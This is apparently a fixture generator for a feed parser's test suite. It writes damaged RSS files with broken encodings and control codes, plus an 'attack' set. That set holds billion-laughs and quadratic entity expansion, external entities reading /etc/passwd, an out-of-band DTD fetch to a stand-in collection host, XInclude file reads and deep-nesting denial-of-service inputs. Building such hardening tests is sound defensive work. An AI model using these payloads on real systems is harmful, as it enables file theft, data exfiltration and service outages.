#!/usr/bin/env python3
"""Writes the feeds whose bytes no editor keeps: odd encodings, control codes, documents of great size.

Deterministic; run in this folder: python3 make.py
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
PROLOG = '<?xml version="1.0" encoding="UTF-8"?>\n'
TEXTS = {
    "en": ("Derby switchboard stays open", "Forty people keep answering the water line."),
    "fr": ("Évry : le standard déménage", "Où répondra-t-on dès l’été ? À Massy."),
    "es": ("Más teléfonos en Cádiz", "El año próximo contestarán ochenta personas."),
    "pt": ("Évora reforça o atendimento", "São mais trinta pessoas até março."),
    "de": ("Görlitz nimmt mehr Anrufe an", "Für die Störungsstelle werden Kräfte gesucht."),
    "it": ("Forlì, più voci al centralino", "Sarà aperto anche di notte."),
    "ar": ("مركز نداء جديد في وهران", "يجيب ستون موظفًا على المكالمات."),
    "ja": ("仙台の電話窓口が拡大", "受付の担当者を五十人増やす。"),
    "ko": ("대전 콜센터 확장", "상담원 오십 명을 새로 뽑는다."),
    "ru": ("Справочная в Твери расширяется", "На линию примут сорок операторов."),
    "zh": ("成都客服中心扩大", "新增五十名接线员。"),
}


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def item(name, language="en", title=None, text=None):
    given = TEXTS[language]
    return (
        "    <item>\n"
        f"      <title>{escape(given[0]) if title is None else title}</title>\n"
        f'      <guid isPermaLink="false">{name}</guid>\n'
        f"      <description>{escape(given[1]) if text is None else text}</description>\n"
        "    </item>\n"
    )


def rss(body, prolog=PROLOG, title="Lines", end="  </channel>\n</rss>\n"):
    return (
        prolog + '<rss version="2.0">\n  <channel>\n'
        f"    <title>{title}</title>\n    <link>https://example.org/</link>\n"
        "    <description>Who answers</description>\n" + body + end
    )


def around(middle, prolog=PROLOG, before="en", after="fr"):
    return rss(item("before", before) + middle + item("after", after), prolog)


def declared(encoding):
    return f'<?xml version="1.0" encoding="{encoding}"?>\n'


def two(language, prolog=PROLOG, title=None):
    second = escape(TEXTS[language][1]) if title is None else title
    return rss(item("one", language) + item("two", language, second), prolog)


FILES = {}


def add(name, data):
    FILES[name] = data if isinstance(data, bytes) else data.encode("utf-8")


# Control codes and codes that are no characters.
add("repair_control_raw.xml", around(item("damaged", title="Night\x08 line\x0b open\x1f", text="A\x01B\x0cC")))
add("repair_control_cdata.xml", around(item("damaged", text="<![CDATA[<p>One\x08 &amp;\x02 two\x1b</p>]]>")))
add("repair_control_nul.xml", around(item("damaged", title="Night\x00 line")))
add("repair_control_attribute.xml", around(item("damaged").replace('"false"', '"fal\x03se"')))
add("repair_control_in_tag.xml", around(item("damaged").replace("<description>", "<descrip\x04tion>")))
add("repair_control_del_c1.xml", around(item("damaged", title="Night\x7f line\x85 open\x9f")))
add("repair_noncharacter_raw.xml", around(item("damaged", title="Night\ufffe line\uffff", text="<![CDATA[A\uffffB]]>")))
add("repair_surrogate_bytes.xml", around(item("damaged", title="Night@line")).encode().replace(b"@", b"\xed\xa0\x80"))
add("repair_cesu8.xml", around(item("damaged", title="Night @")).encode().replace(b"@", b"\xed\xa0\xbd\xed\xb3\x9e"))
add("repair_overlong.xml", around(item("damaged", title="Night@line#")).encode().replace(b"@", b"\xc0\xaf").replace(b"#", b"\xc0\xbc"))
add("repair_beyond_unicode_raw.xml", around(item("damaged", title="Night@line")).encode().replace(b"@", b"\xf4\x90\x80\x80"))
# Bad bytes in good UTF-8.
add("repair_bad_bytes.xml", around(item("damaged", title="Café @t$ déjà"), before="ja").encode().replace(b"@", b"\xe9").replace(b"$", b"\xe9"))
add("repair_bad_bytes_quotes.xml", around(item("damaged", title="Das @neue$ Büro – 5 #")).encode().replace(b"@", b"\x84").replace(b"$", b"\x93").replace(b"#", b"\x80"))
add("repair_truncated_multibyte.xml", around(item("damaged", title="Preis 5 @", text="電話窓$")).encode().replace(b"@", b"\xe2\x82").replace(b"$", b"\xe5\x8f"))
add("repair_truncated_multibyte_end.xml", rss(item("one", "ja") + item("two", "ja")).encode() + "窓".encode()[:2])
add("repair_truncated_in_multibyte.xml", rss(item("one", "ja") + item("two", "ja", "窓"), end="").encode().rsplit("窓".encode(), 1)[0] + "窓".encode()[:1])
add("repair_bad_byte_in_tag.xml", around(item("damaged").replace('isPermaLink="false"', 'isPermaLink="false" note="@"')).encode().replace(b"@", b"\xe9"))
# What the prolog says and what the bytes are.
add("repair_prolog_utf8_is_windows1252.xml", rss(item("one", "fr") + item("two", "es", "“Más” – 5 €")).encode("cp1252"))
add("repair_prolog_missing_is_windows1252.xml", rss(item("one", "de") + item("two", "fr"), "").encode("cp1252"))
add("repair_prolog_latin1_is_windows1252.xml", rss(item("one", "fr") + item("two", "en", "“Open” – 5 €"), declared("ISO-8859-1")).encode("cp1252"))
add("repair_prolog_gb2312_is_gb18030.xml", rss(item("one", "zh", "朱镕基路客服中心") + item("two", "zh", "𠮷野热线 €"), declared("gb2312")).encode("gb18030"))
add("repair_prolog_shift_jis_is_cp932.xml", rss(item("one", "ja", "①番窓口 髙橋") + item("two", "ja"), declared("Shift_JIS")).encode("cp932"))
add("repair_prolog_euckr_is_cp949.xml", rss(item("one", "ko", "똠방 상담") + item("two", "ko"), declared("EUC-KR")).encode("cp949"))
add("repair_prolog_koi8r_is_windows1251.xml", two("ru", declared("KOI8-R")).encode("cp1251"))
add("repair_prolog_utf8_is_shift_jis.xml", two("ja", PROLOG, "予約表ソフトのサポート").encode("shift_jis"))
add("repair_prolog_utf8_is_utf16.xml", two("it").encode("utf-16-le"))
add("repair_bom_utf8_prolog_latin1.xml", b"\xef\xbb\xbf" + two("fr", declared("ISO-8859-1")).encode())
add("repair_bom_utf8_is_windows1252.xml", b"\xef\xbb\xbf" + two("fr").encode("cp1252"))
add("repair_bom_utf16_prolog_utf8.xml", b"\xff\xfe" + two("pt", declared("UTF-8")).encode("utf-16-le"))
add("repair_bom_utf8.xml", b"\xef\xbb\xbf" + two("ar").encode())
add("repair_bom_twice.xml", b"\xef\xbb\xbf\xef\xbb\xbf" + two("es").encode())
add("repair_bom_after_blank.xml", b"\n\xef\xbb\xbf" + two("es").encode())
add("repair_bom_within.xml", around(item("damaged", title="\ufeffNight line\ufeff")))
add("repair_prolog_late.xml", b" " * 1100 + b"\n" + two("fr", declared("windows-1252")).encode("cp1252"))
add("repair_http_charset.xml", two("ru", declared("windows-1251")).encode("koi8-r"))
# Encodings, rightly declared or marked.
add("repair_utf16le_mark.xml", b"\xff\xfe" + two("ar", declared("UTF-16")).encode("utf-16-le"))
add("repair_utf16be_mark.xml", b"\xfe\xff" + two("ja", declared("UTF-16")).encode("utf-16-be"))
add("repair_utf16le_no_mark.xml", two("de", declared("UTF-16LE")).encode("utf-16-le"))
add("repair_utf16be_no_mark.xml", two("es", declared("UTF-16")).encode("utf-16-be"))
add("repair_utf16_odd_length.xml", b"\xff\xfe" + two("pt", declared("UTF-16")).encode("utf-16-le") + b"\x0a")
add("repair_utf16_lone_surrogate.xml", b"\xff\xfe" + around(item("damaged", title="Night@line"), declared("UTF-16")).encode("utf-16-le").replace(b"@\x00", b"\x3d\xd8"))
add("repair_utf32le_mark.xml", b"\xff\xfe\x00\x00" + two("fr", declared("UTF-32")).encode("utf-32-le"))
add("repair_utf32be_mark.xml", b"\x00\x00\xfe\xff" + two("ja", declared("UTF-32")).encode("utf-32-be"))
add("repair_utf32be_no_mark.xml", two("it", declared("UTF-32BE")).encode("utf-32-be"))
for label, codec, language in [
    ("shift_jis", "shift_jis", "ja"), ("euc_jp", "euc_jp", "ja"), ("iso_2022_jp", "iso2022_jp", "ja"),
    ("euc_kr", "euc_kr", "ko"), ("koi8_r", "koi8-r", "ru"), ("windows_1251", "cp1251", "ru"),
    ("windows_1256", "cp1256", "ar"), ("iso_8859_6", "iso8859_6", "ar"), ("gb18030", "gb18030", "zh"),
    ("big5", "big5", "zh"), ("iso_8859_15", "iso8859_15", "fr"), ("macintosh", "mac_roman", "pt"),
]:
    names = {"shift_jis": "Shift_JIS", "euc_jp": "EUC-JP", "iso_2022_jp": "ISO-2022-JP", "euc_kr": "EUC-KR",
             "koi8_r": "KOI8-R", "windows_1251": "windows-1251", "windows_1256": "windows-1256",
             "iso_8859_6": "ISO-8859-6", "gb18030": "GB18030", "big5": "Big5",
             "iso_8859_15": "ISO-8859-15", "macintosh": "macintosh"}
    text = two(language, declared(names[label]), "予約表ソフトのサポート" if label == "shift_jis" else None)
    if label == "big5":
        text = text.replace("成都客服中心扩大", "臺北客服中心擴大").replace("新增五十名接线员。", "新增五十名接線員。")
    if label == "iso_8859_15":
        text = text.replace("’", "'").replace("À Massy", "À Massy, 5 €, œuvre")
    add(f"repair_encoding_{label}.xml", text.encode(codec))
# Two encodings in one file.
add("repair_two_encodings_items.xml", rss("@").encode().replace(b"@", item("one", "fr").encode() + item("two", "es").encode("cp1252") + item("three", "ja").encode()))
add("repair_two_encodings_documents.xml", two("fr").encode() + rss(item("three", "de") + item("four", "es"), declared("ISO-8859-1")).encode("latin-1"))
add("repair_two_encodings_utf16.xml", two("fr").encode() + rss(item("three", "de"), declared("UTF-16")).encode("utf-16-le"))
add("repair_nul_after.xml", two("en").encode() + b"\x00" * 64)
add("repair_nul_before.xml", b"\x00" * 4 + b"\n" + two("en").encode())
# Pages that are no text.
add("page_binary.xml", b"\x89PNG\r\n\x1a\n" + bytes((i * 73 + 41) % 256 for i in range(600)))
add("page_gzip_noise.xml", b"\x1f\x8b\x08\x00" + bytes((i * 151 + 7) % 256 for i in range(600)))
# Attacks: the entities and trees of each are made to cost a careless reader dear.
first, last = item("before"), item("after", "fr")
laughs = "".join(f'  <!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">\n' for i in range(1, 10))
add("attack_billion_laughs.xml", rss(first + item("damaged", title="&l9;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY l0 "ring">\n' + laughs + "]>\n"))
add("attack_quadratic_entity.xml", rss(first + item("damaged", text="&a;" * 20000) + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY a "' + "ring " * 20000 + '">\n]>\n'))
add("attack_small_entity_often.xml", rss(first + item("damaged", text="&a;" * 60000) + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY a "' + "ring " * 800 + '">\n]>\n'))
add("attack_external_entity.xml", rss(first + item("damaged", title="&x;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n'))
add("attack_external_entity_unused.xml", rss(first + item("damaged") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n'))
add("attack_external_http.xml", rss(first + item("damaged", title="&x;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY x PUBLIC "-//X//X" "http://collect.invalid/x">\n]>\n'))
add("attack_parameter_entities.xml", rss(first + item("damaged", title="&send;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % dtd SYSTEM "http://collect.invalid/x.dtd">\n  %dtd;\n]>\n'))
add("attack_parameter_laughs.xml", rss(first + item("damaged", title="&z;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY % a "<!ENTITY z \'ring\'>">\n' + "".join(f'  <!ENTITY % p{i} "{("&#37;p%d;" % (i - 1) if i else "ring") * 10}">\n' for i in range(10)) + "  %a;\n  %p9;\n]>\n"))
add("attack_entity_loop.xml", rss(first + item("damaged", title="&a;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY a "&b;">\n  <!ENTITY b "&a;">\n]>\n'))
add("attack_entity_markup.xml", rss(first + item("damaged", title="&m;") + last, PROLOG + '<!DOCTYPE rss [\n  <!ENTITY m "x</title></item><item><title>smuggled</title>">\n]>\n'))
add("attack_many_entities.xml", rss(first + item("damaged", title="&e4999;") + last, PROLOG + "<!DOCTYPE rss [\n" + "".join(f'<!ENTITY e{i} "ring">\n' for i in range(5000)) + "]>\n"))
add("attack_xinclude.xml", rss(first + item("damaged", text='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>') + last))
add("attack_deep_nesting.xml", rss(first + item("damaged", text="<b>" * 20000 + "ring" + "</b>" * 20000) + last))
add("attack_deep_nesting_unclosed.xml", rss(first + "<a>" * 20000, end=""))
add("attack_deep_end_tags.xml", rss(first + item("damaged", text="</b>" * 20000) + last))
add("attack_attributes.xml", rss(first + item("damaged").replace("<description>", "<description " + " ".join(f'a{i}="{i}"' for i in range(5000)) + ">") + last))
add("attack_attributes_duplicate.xml", rss(first + item("damaged").replace("<description>", "<description " + 'a="1" ' * 5000 + ">") + last))
add("attack_namespaces.xml", rss(first + item("damaged").replace("<description>", "<description " + " ".join(f'xmlns:n{i}="urn:n:{i}"' for i in range(5000)) + ">") + last))
add("attack_ampersands.xml", rss(first + item("damaged", title="&" * 100000) + last))
add("attack_less_than.xml", rss(first + item("damaged", title="<" * 100000) + last))
add("attack_cdata_opens.xml", rss(first + item("damaged", text="<![CDATA[" * 20000) + last))
add("attack_comment_opens.xml", rss(first + item("damaged", text="<!--" * 20000) + last))
add("attack_brackets.xml", rss(first + item("damaged", text="<![CDATA[" + "]" * 100000 + "]]>") + last))
add("attack_long_name.xml", rss(first + item("damaged", text="<" + "a" * 100000 + "/>ring") + last))
add("attack_long_address.xml", rss(first + item("damaged").replace("</guid>", "</guid>\n      <link>https://example.org/" + "../" * 40000 + "</link>") + last))
add("attack_items_unclosed.xml", rss(first + "<item><title>x</title>" * 8000 + last))
add("attack_many_items.xml", rss("".join(f"<item><guid>{i}</guid></item>\n" for i in range(7000))))
add("attack_long_date.xml", rss(first + item("damaged").replace("</guid>", "</guid>\n      <pubDate>" + "Mon, " * 30000 + "</pubDate>") + last))

if __name__ == "__main__":
    for name in sorted(FILES):
        with open(os.path.join(HERE, name), "wb") as file:
            file.write(FILES[name])
